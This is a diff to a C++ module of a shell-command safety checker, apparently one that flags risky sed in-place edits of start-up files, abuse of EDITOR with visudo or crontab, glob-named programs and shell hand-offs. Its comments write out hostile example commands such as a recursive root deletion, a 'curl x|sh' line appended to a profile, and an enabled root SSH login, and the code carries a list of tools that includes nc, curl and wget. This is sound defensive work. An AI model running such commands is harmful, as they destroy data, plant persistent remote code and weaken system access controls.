@@ -1,5 +1,5 @@
-// judge_helpers.cc: programs that another one is told to start: by a setting, an option, an editor's variable, a name
-// that is a pattern.
+// judge_helpers.cc: programs that another program starts because of a setting, an option, an editor's variable, or a
+// name that is a pattern.
 // Invariant: as judge.h. Not here: options that the table of programs knows (judge_calls.cc).
 #include <algorithm>
 
@@ -76,13 +76,13 @@ bool names_package(std::span<const Word> words, std::size_t at) {
                                     [](const Word& word) { return word.text.starts_with('-'); });
 }
 
-// The text that a script of sed puts in: after a, i, c; and what s puts in the place of something.
-struct Inserted {
+// The text that a sed script inserts with a, i, c, and the replacements of s.
+struct SedInsertion {
   std::string lines;
   std::string replaced;
 };
-Inserted inserted_by(std::string_view code) {
-  Inserted out;
+SedInsertion sed_insertion(std::string_view code) {
+  SedInsertion out;
   std::size_t at = 0;
   const auto past = [&](char by) {
     const std::size_t start = at;
@@ -125,15 +125,15 @@ bool is_trusted_program(std::string_view path) {
              name);
 }
 
-Verdict verdict_of(std::string_view text, Where where) {
+AdviceVerdict verdict_of(std::string_view text, CallContext context) {
   Advice inner;
-  Judge(inner).posix(text, Where{.depth = static_cast<std::uint8_t>(where.depth + 1)});
+  Judge(inner).posix(text, CallContext{.depth = static_cast<std::uint8_t>(context.depth + 1)});
   return inner.verdict;
 }
 
 }  // namespace
 
-// What may stand in a start-up file without running anything of its own.
+// A line that runs no program of its own in a start-up file.
 bool only_settings(std::string_view text) {
   const Script script = read_shell(text);
   return script.complete && std::all_of(script.commands.begin(), script.commands.end(), [](const Simple& one) {
@@ -188,7 +188,7 @@ bool takes_code_from_input(std::span<const Word> own, std::span<const Word> inne
 }
 
 // /???/r? -rf /: the shell finds the program by a pattern, and so does this.
-void Judge::by_pattern(State& state, const Simple& command, Words words, Where where) {
+void Judge::by_pattern(State& state, const Simple& command, Words words, CallContext context) {
   const std::string_view text = words[0].text;
   const auto slash = text.rfind('/');
   if (text.starts_with('[') || text.starts_with("./") || text.starts_with('~') || text.find('*') == 0) return;
@@ -196,21 +196,21 @@ void Judge::by_pattern(State& state, const Simple& command, Words words, Where w
   if (slash != std::string_view::npos && text[0] != '/') return;
   if (name.find_first_of("?*[") == std::string_view::npos) {
     if (find_program(name) != nullptr && text.find('?') != std::string_view::npos)
-      report("pattern-name", command, where);
+      report("pattern-name", command, context);
     return;
   }
-  report("pattern-name", command, where);
+  report("pattern-name", command, context);
   for (const std::string_view known : {"rm", "dd", "sh", "bash", "cat", "nc", "chmod", "mv", "curl", "wget", "python3"})
     if (fits(name, known)) {
       std::vector<Word> named(words.begin(), words.end());
       named[0].text = known;
       named[0].glob = false;
-      run(state, command, named, where);
+      run(state, command, named, context);
     }
 }
 
-// EDITOR='tee -a' visudo: what is no editor writes the file without anybody seeing it.
-void Judge::editor_of(const Simple& command, std::string_view program, Where where) {
+// EDITOR='tee -a' visudo: a program that is not an editor writes the file without review.
+void Judge::editor_of(const Simple& command, std::string_view program, CallContext context) {
   if (!listed("visudo vipw vigr crontab sudoedit", program)) return;
   const auto check = [&](std::string_view name, std::string_view value) {
     if (!listed("EDITOR VISUAL SUDO_EDITOR", name) || value.empty() || value.find('$') != value.npos) return;
@@ -218,7 +218,7 @@ void Judge::editor_of(const Simple& command, std::string_view program, Where whe
     if (listed("vi vim nvim nano emacs emacsclient ed micro code subl gedit kate joe mcedit pico hx helix kak mg ne",
                editor))
       return;
-    report(program == "crontab" ? "write-startup" : "write-accounts", command, where);
+    report(program == "crontab" ? "write-startup" : "write-accounts", command, context);
   };
   for (const Assignment& one : command.assignments) check(one.name, one.value.text);
   for (const Word& word : command.words)
@@ -227,35 +227,36 @@ void Judge::editor_of(const Simple& command, std::string_view program, Where whe
 }
 
 // sed -i '1i curl x|sh' ~/.profile
-void Judge::sed_inserts(const Simple& command, Words words, const Arguments& arguments, Where where) {
+void Judge::sed_inserts(const Simple& command, Words words, const Arguments& arguments, CallContext context) {
   if (!arguments.has("-i") && !arguments.has("--in-place")) return;
-  const auto in = [&](Places places) {
+  const auto in = [&](PathKinds places) {
     return std::any_of(words.begin() + 1, words.end(), [&](const Word& word) {
-      const Places found = places_of(word, {});
+      const PathKinds found = path_kinds_of(word, {});
       return (found & places) != 0 && (word.text[0] == '/' || word.text[0] == '~' || word.text[0] == '$');
     });
   };
   const bool startup = in(kStartup);
   if (!startup && !in(kSetting)) return;
   for (const Word& word : words.subspan(1)) {
-    if (word.text.starts_with('-') || word.text.size() > 4096 || places_of(word, {}) & (kStartup | kSetting)) continue;
-    const Inserted text = inserted_by(word.text);
+    if (word.text.starts_with('-') || word.text.size() > 4096 || path_kinds_of(word, {}) & (kStartup | kSetting))
+      continue;
+    const SedInsertion text = sed_insertion(word.text);
     const bool lets_in = has_any_case(text.lines + text.replaced, "permitrootlogin yes") ||
                          has_any_case(text.lines + text.replaced, "permitemptypasswords yes");
-    if (!startup && (lets_in || (!text.lines.empty() && in(kSetting)))) report("write-system", command, where);
+    if (!startup && (lets_in || (!text.lines.empty() && in(kSetting)))) report("write-system", command, context);
     if (!startup) continue;
     const bool plain =
-        text.lines.empty() || (only_settings(text.lines) && verdict_of(text.lines, where) == Verdict::kSafe);
-    if (!plain || (!text.replaced.empty() && verdict_of(text.replaced, where) != Verdict::kSafe))
-      report("write-startup", command, where);
+        text.lines.empty() || (only_settings(text.lines) && verdict_of(text.lines, context) == AdviceVerdict::kSafe);
+    if (!plain || (!text.replaced.empty() && verdict_of(text.replaced, context) != AdviceVerdict::kSafe))
+      report("write-startup", command, context);
   }
 }
 
-void Judge::helpers(State& state, const Simple& command, Words words, const Arguments& arguments, Where where) {
+void Judge::helpers(State& state, const Simple& command, Words words, const Arguments& arguments, CallContext context) {
   const std::string_view name = base_name(words[0].text);
-  const auto say = [&](std::string_view rule, const Word& word) { report(rule, word.begin, word.end, where); };
-  editor_of(command, name, where);
-  if (name == "sed" || name == "gsed") sed_inserts(command, words, arguments, where);
+  const auto say = [&](std::string_view rule, const Word& word) { report(rule, word.begin, word.end, context); };
+  editor_of(command, name, context);
+  if (name == "sed" || name == "gsed") sed_inserts(command, words, arguments, context);
   if (listed("cp mv ln install scp", name) && arguments.words.size() > 1) {
     const std::string_view to = arguments.words.back()->text;
     const std::string_view from = arguments.words.front()->text;
@@ -263,7 +264,7 @@ void Judge::helpers(State& state, const Simple& command, Words words, const Argu
     if (is_trusted_program(to) && !own) say("write-system", *arguments.words.back());
     if (name == "mv" && is_trusted_program(from)) say("write-system", *arguments.words.front());
   }
-  Where inner = where;
+  CallContext inner = context;
   inner.inside = true;
   for (std::size_t i = 1; i < words.size(); ++i) {
     const Word& word = words[i];
@@ -304,7 +305,7 @@ void Judge::helpers(State& state, const Simple& command, Words words, const Argu
 }
 
 // A program that is given a shell's path most likely starts it, unless it only prints or names its words.
-void Judge::hands_over(const Program* program, Words words, Where where) {
+void Judge::hands_over(const Program* program, Words words, CallContext context) {
   // The code of awk and sed was read already; a path in it is compared or printed.
   if (program != nullptr && (program->language == Language::kAwk || program->language == Language::kSed)) return;
   const bool own_script = program == nullptr && (words[0].text.starts_with("./") || words[0].unknown);
@@ -314,7 +315,7 @@ void Judge::hands_over(const Program* program, Words words, Where where) {
     if (has_any_case(word.text, "shell=/") || has_any_case(word.text, "shell /") || word.text.starts_with("--with-"))
       continue;
     if (&word > &words[1] && (&word - 1)->text.ends_with("shell")) continue;
-    report("opens-shell", word.begin, word.end, where);
+    report("opens-shell", word.begin, word.end, context);
     return;
   }
 }
